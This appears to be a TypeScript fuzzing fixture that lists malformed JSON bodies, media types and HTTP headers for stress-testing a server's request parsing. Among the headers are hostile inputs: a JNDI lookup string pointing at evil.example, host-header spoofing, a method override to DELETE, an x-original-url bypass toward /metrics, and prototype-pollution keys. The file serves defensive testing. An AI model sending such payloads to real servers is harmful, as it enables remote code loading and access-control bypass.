// Bodies that are none, media types and headers that break careless servers.
import { CANARY } from './nasty.js'

const nested = (open: string, close: string, depth: number): string =>
  open.repeat(depth) + '1' + close.repeat(depth)

/** Bodies as bytes, each character one of them. */
export const BODIES: readonly string[] = [
  ...[
    '',
    ' ',
    '\n',
    '{',
    '}',
    '[',
    '{"a"',
    '{"a":',
    '{"a":1',
    '"',
    'null',
    '0',
    'true',
    '""',
    '[]',
    '{}',
    'nul',
    '\x00',
  ],
  ...[
    '\xef\xbb\xbf{}',
    '\xff\xfe{\x00}\x00',
    '{"a":"\xff"}',
    '{"a":"\xc0\xaf"}',
    '{"a":"\xed\xa0\x80"}',
    '\xf8\x88\x80\x80\x80',
  ],
  ...[nested('[', ']', 33), nested('[', ']', 100_000), nested('{"a":', '}', 100_000), '['.repeat(900_000)],
  ...[
    '{"events":' + nested('[', ']', 31) + '}',
    '{"events":[' + '{},'.repeat(20_000) + '{}]}',
    'a=1&b=2',
    '<a/>',
  ],
  ...[
    '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--',
    '\x1f\x8b\x08\x00',
    'x'.repeat(1_048_577),
  ],
  ...[`{"${'k'.repeat(100_000)}":1}`, `{"a":"${'\\u0041'.repeat(20_000)}"}`, `[${'1,'.repeat(300_000)}1]`],
  'x'.repeat(10 * 1_048_576),
]

export const TYPES: readonly string[] = [
  ...[
    'application/json',
    'application/json; charset=utf-8',
    'application/json;charset=latin1',
    'text/plain',
    '',
  ],
  ...[
    'application/json; charset=utf-16',
    'APPLICATION/JSON',
    'application/problem+json',
    'multipart/form-data',
  ],
  ...[
    'multipart/form-data; boundary=x',
    'application/x-www-form-urlencoded',
    'a/b; c',
    '*/*',
    ';',
    'x'.repeat(4_000),
  ],
  ...['application/json, text/plain', 'application/xml', 'application/json;charset="', 'null'],
]

const COOKIES = Array.from({ length: 1_500 }, (_, n) => `c${n}=1`).join('; ')

export const HEADERS: readonly (readonly [name: string, value: string])[] = [
  ['cookie', COOKIES],
  ['cookie', 'stature-session=; stature-session=%00; stature-device=%FF%FE; =; ;;; a'],
  ['cookie', `stature-session=${'A'.repeat(43)}; stature-session=${'B'.repeat(43)}`],
  ['cookie', '__proto__=1; constructor=2; toString=3'],
  ['authorization', 'Bearer'],
  ['authorization', `Bearer ${'A'.repeat(43)}`],
  ['authorization', `Bearer ${'A'.repeat(5_000)}`],
  ['authorization', 'Basic Og=='],
  ['authorization', 'bearer \ud800'],
  ['origin', 'null'],
  ['origin', 'http://localhost.evil.example'],
  ['origin', 'http://localhost'],
  ['sec-fetch-site', 'cross-site'],
  ['sec-fetch-site', 'same-origin'],
  ['x-forwarded-for', '1.2.3.4, 5.6.7.8, unknown, ::1, \u0000'],
  ['x-forwarded-host', 'evil.example'],
  ['x-forwarded-proto', 'javascript'],
  ['forwarded', 'for="[::1]:x";by=;host=evil'],
  ['x-http-method-override', 'DELETE'],
  ['x-original-url', '/metrics'],
  ['host', 'evil.example'],
  ['host', ''],
  ['content-encoding', 'gzip'],
  ['content-encoding', 'identity, br, ../..'],
  ['accept', 'application/x-nothing;q=abc'],
  ['accept-language', '*'.repeat(3_000)],
  ['accept-encoding', 'gzip;q=NaN'],
  ['if-none-match', '*'],
  ['if-modified-since', 'yesterday'],
  ['range', 'bytes=0-,1-,2-,-1'],
  ['expect', 'nonsense'],
  ['last-event-id', '-1'],
  ['last-event-id', '99999999999999999999'],
  ['user-agent', `${CANARY}\t${'u'.repeat(3_000)}`],
  ['x-request-id', '${jndi:ldap://evil.example}'],
  ['upgrade', 'websocket'],
  ['connection', 'upgrade, x'],
  ['te', 'trailers, deflate;q=0.5'],
  ['__proto__', 'x'],
  ['constructor', 'x'],
]
